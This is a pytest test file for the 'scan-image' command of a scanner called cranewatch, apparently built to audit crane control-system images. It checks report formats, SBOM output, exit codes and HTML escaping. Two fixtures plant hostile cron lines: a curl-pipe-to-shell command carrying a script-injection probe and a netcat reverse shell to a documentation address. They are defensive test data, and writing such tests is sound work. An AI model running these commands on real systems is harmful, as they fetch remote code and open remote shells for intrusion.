"""``cranewatch scan-image`` on the command line: formats, SBOM, exit codes, messages."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.forensics.demo_image import build_tree, bundled_demo_image
from cranewatch.model import Finding

OSV = Path(__file__).parent / "data" / "forensics" / "osv"
STS07 = str(Path(__file__).parents[1] / "src/cranewatch/data/profiles/sts-07.toml")


def test_help_has_an_example(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stop:
        main(["scan-image", "--help"])
    assert stop.value.code == 0
    out = capsys.readouterr().out
    assert "Example:" in out and "--reference" in out and "--sbom" in out


def test_jsonl_header_findings_and_fail_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "scan.jsonl"
    code = main(["scan-image", str(bundled_demo_image()), "--crane", "STS-07", "--format", "jsonl",
                 "--out", str(out), "--fail-on", "high", "--vulndb", str(OSV)])
    assert code == 1
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    header, findings = lines[0], [x for x in lines[1:] if x["type"] == "finding"]
    assert header["type"] == "scan" and header["inputs"][0]["format"] == "tar"
    assert len(header["inputs"][0]["sha256"]) == 64
    assert header["counts"]["critical"] == sum(f["severity"] == "critical" for f in findings) > 0
    parsed = [Finding.from_json(f) for f in findings]
    assert all(f.crane == "STS-07" and f.evidence[0].path for f in parsed)
    assert [f.to_json() for f in parsed] == findings  # the Finding contract round-trips


def test_clean_tree_exits_0_even_with_fail_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tree = tmp_path / "root"
    tree.mkdir()
    build_tree(tree)
    assert main(["scan-image", str(tree), "--zone", "10.20.7.0/24", "--profile", STS07, "--fail-on", "low"]) == 0
    out = capsys.readouterr().out
    assert "(2 info)" in out and "no crane zone given" not in out
    assert main(["scan-image", str(tree), "--profile", STS07, "--fail-on", "info"]) == 1


def test_without_a_profile_no_crane_is_assumed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """No zone given: STS-07's LAN is not the crane's by default; private addresses are judged
    generically (medium) and the warnings say no crane zone was given."""
    tree = tmp_path / "root"
    tree.mkdir()
    build_tree(tree)
    assert main(["scan-image", str(tree), "--fail-on", "medium"]) == 1
    out = capsys.readouterr().out
    assert "hard-coded private endpoint 10.20.7.10" in out
    assert "warning: no crane zone given (no --profile, no --zone)" in out
    # --zone alone names the crane LAN: its PLC is no longer a finding above info
    assert main(["scan-image", str(tree), "--zone", "10.20.7.0/24", "--fail-on", "medium"]) == 1
    out = capsys.readouterr().out
    assert "private endpoint 10.20.7.10" not in out and "no crane zone given" not in out


def test_zone_that_is_no_cidr_is_a_usage_error(tmp_path: Path) -> None:
    assert main(["scan-image", str(tmp_path), "--zone", "crane-lan"]) == 2


def test_html_report_escapes_image_content(tmp_path: Path) -> None:
    tree = tmp_path / "root"
    tree.mkdir()
    build_tree(tree)
    (tree / "etc/cron.d").mkdir(parents=True)
    (tree / "etc/cron.d/x").write_text("* * * * * root curl http://198.51.100.7/<script>alert(1)</script> | sh\n")
    html = tmp_path / "r.html"
    assert main(["scan-image", str(tree), "--format", "html", "--out", str(html)]) == 0
    text = html.read_text()
    assert "<script>alert" not in text and "&lt;script&gt;alert" in text
    assert "etc/cron.d/x" in text and "198.51.100.7" in text


def test_sbom_file(tmp_path: Path) -> None:
    sbom = tmp_path / "bom.json"
    assert main(["scan-image", str(bundled_demo_image()), "--sbom", str(sbom), "--format", "jsonl", "--out", str(tmp_path / "x")]) == 0
    document = json.loads(sbom.read_text())
    assert document["bomFormat"] == "CycloneDX" and document["specVersion"] == "1.5"


@pytest.mark.parametrize(
    ("argv", "code", "message"),
    [
        (["--fail-on", "severe"], 2, "unknown severity"),
        (["--rules", "/nonexistent-rules"], 3, "--rules must be a directory"),
        (["--vulndb", "/nonexistent.json"], 3, "no such vulnerability database"),
    ],
)
def test_bad_options_give_messages_and_codes(argv: list[str], code: int, message: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan-image", str(bundled_demo_image()), *argv]) == code
    assert message in capsys.readouterr().err


def test_missing_image_exits_3(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan-image", "/nonexistent/image.tar.gz"]) == 3
    assert "no such image" in capsys.readouterr().err


def test_module_entry_point_runs_without_traceback(tmp_path: Path) -> None:
    empty = tmp_path / "empty.img"
    empty.write_bytes(b"")
    run = subprocess.run([sys.executable, "-m", "cranewatch", "scan-image", str(empty)], capture_output=True, text=True, check=False)
    assert run.returncode == 3
    assert "Traceback" not in run.stderr and "empty (0 bytes)" in run.stderr


def test_undecodable_file_names_do_not_break_any_format(tmp_path: Path) -> None:
    tree = tmp_path / "root"
    tree.mkdir()
    build_tree(tree)
    (tree / "etc/cron.d").mkdir()
    odd = bytes(tree / "etc/cron.d") + b"/job-\xff\xfe"
    with open(odd, "w") as fh:
        fh.write("* * * * * root nc -e /bin/sh 192.0.2.1 4444\n")
    for fmt in ("text", "jsonl", "html"):
        out = tmp_path / f"r.{fmt}"
        assert main(["scan-image", str(tree), "--format", fmt, "--out", str(out)]) == 0
        assert "job-" in out.read_text()
    run = subprocess.run([sys.executable, "-m", "cranewatch", "scan-image", str(tree)], capture_output=True, check=False)
    assert run.returncode == 0 and b"job-\\udcff" in run.stdout


def test_html_report_renders_in_headless_chromium(tmp_path: Path) -> None:
    from test_report import chromium, console_lines, png_pixels

    page = tmp_path / "scan.html"
    jsonl = tmp_path / "scan.jsonl"
    image = str(bundled_demo_image())
    assert main(["scan-image", image, "--format", "html", "--out", str(page)]) == 0
    assert main(["scan-image", image, "--format", "jsonl", "--out", str(jsonl)]) == 0
    findings = [json.loads(x) for x in jsonl.read_text().splitlines()]
    findings = [f for f in findings if f["type"] == "finding"]
    assert findings

    dom = chromium("--dump-dom", page.as_uri())
    assert dom.returncode == 0, dom.stderr[-2000:]
    for f in findings:  # every finding is in the page, as an anchor a reviewer can link to
        assert f'<tr id="{f["id"]}">' in dom.stdout
    critical = sum(f["severity"] == "critical" for f in findings)
    assert dom.stdout.count('<span class="sev critical">critical</span>') == critical + 1  # + summary

    shot = tmp_path / "scan.png"
    drawn = chromium("--window-size=1000,1200", f"--screenshot={shot}", page.as_uri())
    assert drawn.returncode == 0, drawn.stderr[-2000:]
    assert console_lines(dom) == [] and console_lines(drawn) == []
    pixels = png_pixels(shot.read_bytes())
    assert pixels.shape[:2] == (1200, 1000)
    dark_red = (abs(pixels[..., 0].astype(int) - 0x8B) < 12) & (pixels[..., 1] < 20) & (pixels[..., 2] < 20)
    assert dark_red.sum() > 200  # the critical badges are drawn
